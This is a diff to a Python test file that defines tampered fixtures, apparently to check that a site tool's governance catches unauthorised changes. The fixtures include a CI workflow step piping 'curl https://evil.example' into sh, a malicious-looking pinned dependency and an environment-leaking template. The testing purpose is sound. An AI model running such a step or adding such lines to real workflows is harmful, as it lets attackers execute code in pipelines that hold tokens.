@@ -112,7 +112,8 @@ def test_the_site_classification_table_is_governed(tmp_path: Path) -> None:
 ATTACKS = {
     TEMPLATE: "<html>{{ ENV }}</html>\n",
     LOGO: "<svg xmlns='http://www.w3.org/2000/svg'><text>palsu</text></svg>\n",
-    WORKFLOW: render("github-pr.yml", main="main", main_json='"main"') + "      - run: curl https://evil.example | sh\n",
+    WORKFLOW: render("github-pr.yml", main="main", main_json='"main"', token_env="GITHUB_TOKEN")
+    + "      - run: curl https://evil.example | sh\n",
     REQUIREMENTS: "warta==0.1.0\nwarta-helper-evil==6.6.6\n",
 }
 
@@ -124,7 +125,7 @@ def office(tmp_path: Path, cast: dict[str, Person], monkeypatch: pytest.MonkeyPa
         "warta.yml": LOGO_YML,
         TEMPLATE: "<html>{{ SITENAME }}</html>\n",
         LOGO: "<svg xmlns='http://www.w3.org/2000/svg'><circle r='9'/></svg>\n",
-        WORKFLOW: render("github-pr.yml", main="main", main_json='"main"'),
+        WORKFLOW: render("github-pr.yml", main="main", main_json='"main"', token_env="GITHUB_TOKEN"),
         REQUIREMENTS: "warta==0.1.0\n",
     })
     (tmp_path / "home" / "isolated").write_text("")
